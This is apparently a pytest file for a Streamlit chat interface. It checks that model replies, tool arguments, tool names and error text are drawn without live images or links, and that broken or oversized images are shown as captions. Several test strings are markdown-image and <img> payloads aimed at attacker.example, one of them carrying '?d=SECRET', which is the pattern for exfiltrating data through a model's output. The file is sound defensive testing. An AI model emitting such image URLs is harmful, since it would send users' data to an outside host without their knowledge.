"""The conversation view draws model, tool and imported text through ui.render, and bad images as captions.

Real Streamlit (AppTest) running ui/conversation.py's functions and the Chat page; what it
checks is the Markdown Streamlit is asked to draw.
"""

from __future__ import annotations

import io
import time
from pathlib import Path
from types import SimpleNamespace

import pytest
from markdown_it import MarkdownIt
from PIL import Image
from streamlit.testing.v1 import AppTest

import ui.model
from glm_client.testing import ScriptedClient
from store.images import MAX_IMAGE_PIXELS, image_problem

HOST = "attacker.example"
CHAT_PAGE = str(Path(__file__).resolve().parent.parent / "modes" / "chat.py")


def draws_remote(markdown: str) -> bool:
    """Whether a permissive CommonMark renderer would draw an image, a link or a raw tag from this."""
    viewer = MarkdownIt("commonmark", {"html": True}).enable("table")
    viewer.validateLink = lambda url: True
    html = viewer.render(markdown)
    return any(tag in html for tag in ("<img", "<a ", "<svg"))


def png(width: int, height: int, mode: str = "RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, (width, height)).save(buffer, "PNG")
    return buffer.getvalue()


def history_script() -> None:
    from glm_client import Message, ToolCall
    from ui.conversation import render_history

    call = ToolCall("get_weather", {"city": "![c](https://attacker.example/arg.png)"}, id="c1")
    render_history(
        [
            Message.user("imported: ![u](https://attacker.example/user.png)"),
            Message.assistant("Sure <img src=https://attacker.example/html.png>", [call]),
            Message.observation("sunny", name="x![n](https://attacker.example/name.png)", tool_call_id="c1"),
            Message.assistant("Done: ![ref][r]\n\n[r]: https://attacker.example/ref.png"),
        ]
    )


def test_history_bodies_and_expander_labels_are_sanitised():
    app = AppTest.from_function(history_script, default_timeout=30).run()
    assert not app.exception
    bodies = [element.value for element in app.markdown]
    labels = [expander.label for expander in app.expander]
    assert len(bodies) == 3 and len(labels) == 2
    for text in bodies + labels:
        assert not draws_remote(text), text
    assert all(HOST in text for text in bodies + labels)  # the URL is shown, as text


def stream_script() -> None:
    import streamlit as st

    from glm_client import Done, Message, TextDelta, ToolCall, ToolCallStart
    from glm_client.agent import ObservationEvent
    from ui.conversation import stream_turn

    name = "x![s](https://attacker.example/status.png)"
    call = ToolCall(name, {"q": "[l](https://attacker.example/link)"}, id="c1")
    stream_turn(
        iter(
            [
                TextDelta("Let me look ![i](https://attacker.example/"),
                TextDelta("stream.png)."),
                ToolCallStart(name),
                call,
                ObservationEvent(call, Message.observation("ok", name=name, tool_call_id="c1"), 0.5),
                TextDelta("Found <img src=https://attacker.example/x.png>"),
                Done("error", error="Server said: ![e](https://attacker.example/error.png)"),
            ]
        ),
        st.bottom.empty(),
    )


def test_streamed_text_status_labels_and_errors_are_sanitised():
    app = AppTest.from_function(stream_script, default_timeout=30).run()
    assert not app.exception
    texts = [element.value for element in app.markdown] + [element.value for element in app.error]
    labels = [status.label for status in app.status]
    assert len(texts) == 3 and len(labels) == 1
    for text in texts + labels:
        assert not draws_remote(text), text
    assert labels[0].endswith("· 0.50 s")


def test_a_reply_on_the_chat_page_is_drawn_without_its_image(monkeypatch):
    client = ScriptedClient()
    monkeypatch.setattr(ui.model, "get_client", lambda _name=None: client)
    app = AppTest.from_file(CHAT_PAGE, default_timeout=60).run()
    client.queue(f"Here ![pixel](https://{HOST}/p.png?d=SECRET) and `![code](https://{HOST}/c.png)`")
    app.chat_input(key="chat_input").set_value("hi").run()
    assert not app.exception
    reply = app.chat_message[1].markdown[0].value
    assert not draws_remote(reply)
    assert reply.endswith(f"`![code](https://{HOST}/c.png)`")  # code stays verbatim
    assert "d=SECRET" in reply  # shown as text: the user can see what was attempted


def test_image_problem_reads_only_the_header():
    huge = png(12000, 12000, mode="1")  # 144 megapixels, under 20 KB compressed
    assert len(huge) < 100_000
    started = time.perf_counter()
    problem = image_problem(huge)
    assert time.perf_counter() - started < 0.5
    assert problem is not None and "12000x12000" in problem and f"{MAX_IMAGE_PIXELS:,}" in problem
    assert image_problem(b"\x89PNG\r\n\x1a\n" + b"\0" * 64) is not None  # PNG signature, no image
    assert image_problem(b"%PDF-1.7 not an image") is not None
    assert image_problem(png(640, 480)) is None


@pytest.fixture(scope="module")
def huge_png() -> bytes:
    return png(12000, 12000, mode="1")


def images_script() -> None:
    import streamlit as st

    from glm_client import Message
    from glm_client.messages import IMAGE_PLACEHOLDER
    from ui.conversation import render_observation_body

    good, huge = st.session_state["good"], st.session_state["huge"]
    text = f"a\n{IMAGE_PLACEHOLDER}\nb\n{IMAGE_PLACEHOLDER}\nc\n{IMAGE_PLACEHOLDER}"
    render_observation_body(Message.observation(text, images=[good, b"garbage labelled PNG", huge]))


def test_bad_and_huge_images_become_captions_and_the_rest_still_draws(huge_png):
    app = AppTest.from_function(images_script, default_timeout=30)
    app.session_state["good"] = png(64, 48)
    app.session_state["huge"] = huge_png
    started = time.perf_counter()
    app.run()
    assert not app.exception
    assert time.perf_counter() - started < 5  # decoding 144 MP alone took seconds
    captions = [caption.value for caption in app.caption]
    assert len(captions) == 2 and all(caption.startswith("🖼️ Image not shown") for caption in captions)
    assert "not a readable image" in captions[0] and "12000x12000" in captions[1]
    assert len(app.get("image")) == 1
    assert [code.value for code in app.code] == ["a", "b", "c"]


class RecordingSlot:
    """Stands for st.empty(): keeps what is drawn into it."""

    def __init__(self) -> None:
        self.drawn: list[str] = []

    def markdown(self, text: str) -> None:
        self.drawn.append(text)


def test_streaming_text_is_redrawn_at_most_every_min_redraw_s_and_its_end_always(monkeypatch):
    import ui.redraws
    from ui.conversation import CURSOR, LiveText
    from ui.redraws import MIN_REDRAW_S, RedrawBudget

    clock = [100.0]
    monkeypatch.setattr(ui.redraws, "time", SimpleNamespace(monotonic=lambda: clock[0]))
    monkeypatch.setattr(ui.redraws, "REDRAWS", RedrawBudget())  # no other test's streams drawing
    slot = RecordingSlot()
    live = LiveText(slot)
    for text in ("A", "AB", "ABC"):  # tokens 10 ms apart: the first draws at once, the next wait
        live.show(text)
        clock[0] += 0.01
    clock[0] = 100.0 + MIN_REDRAW_S
    live.show("ABCD")
    live.finish("ABCDE")
    assert slot.drawn == ["A" + CURSOR, "ABCD" + CURSOR, "ABCDE"]


def redraws_per_stream(monkeypatch, streams: int, seconds: float) -> list[int]:
    """Redraws of `streams` streams that each get a token every 10 ms for `seconds`, on a fake clock."""
    import ui.redraws
    from ui.redraws import RedrawBudget, Throttled

    clock = [100.0]
    monkeypatch.setattr(ui.redraws, "time", SimpleNamespace(monotonic=lambda: clock[0]))
    budget = RedrawBudget()
    drawn = [0] * streams
    throttles = [Throttled(lambda _, n=n: drawn.__setitem__(n, drawn[n] + 1), budget) for n in range(streams)]
    for _ in range(round(seconds / 0.01)):
        for throttle in throttles:
            throttle("token")
        clock[0] += 0.01
    return drawn


def test_a_lone_stream_redraws_four_times_a_second(monkeypatch):
    assert redraws_per_stream(monkeypatch, streams=1, seconds=10.0) == [40]


def test_streams_drawing_at_once_share_sixteen_redraws_a_second(monkeypatch):
    # Eight at 4 a second each would be 320 in 10 s: browsers beside the app took its cores.
    drawn = redraws_per_stream(monkeypatch, streams=8, seconds=10.0)
    assert sum(drawn) <= 16 * 10 + 8  # the first redraw of each is at once
    assert min(drawn) >= 19  # and each still redraws every half second
    # Up to four at once are within the budget: 4 a second each, as alone.
    assert redraws_per_stream(monkeypatch, streams=4, seconds=10.0) == [40] * 4
